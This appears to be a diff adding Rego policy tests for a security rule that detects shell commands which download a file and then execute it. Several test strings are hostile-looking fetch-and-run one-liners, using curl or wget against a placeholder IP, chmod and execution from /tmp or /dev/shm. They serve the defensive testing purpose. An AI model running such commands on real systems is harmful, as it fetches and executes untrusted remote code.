@@ -44,3 +44,19 @@ test_curl_process_itself_is_not_matched if {
 	hits := rule.hits with input as fx.host_exec("/usr/bin/curl", ["curl", "-fsSL", "https://get.example.sh", "|", "sh"])
 	count(hits) == 0
 }
+
+test_download_saved_then_run if {
+	every script in [
+		"curl -sLo /tmp/x https://203.0.113.7/x && chmod +x /tmp/x && /tmp/x",
+		"wget -O /dev/shm/k http://203.0.113.7/k; chmod 755 /dev/shm/k",
+		"curl https://203.0.113.7/i.sh > /tmp/i.sh; sh /tmp/i.sh",
+		"cd /tmp && wget -q http://203.0.113.7/b -O b && ./b",
+	] {
+		count(rule.hits) == 1 with input as fx.host_exec("/bin/sh", ["sh", "-c", script])
+	}
+}
+
+test_download_to_a_file_alone_is_not_matched if {
+	count(rule.hits) == 0 with input as fx.host_exec("/bin/sh", ["sh", "-c", "curl -o /tmp/data.json https://api.example.com/x && jq . /tmp/data.json"])
+	count(rule.hits) == 0 with input as fx.host_exec("/bin/sh", ["sh", "-c", "wget -O- https://example.com/x.tar.gz | tar xz; chmod 644 x"])
+}
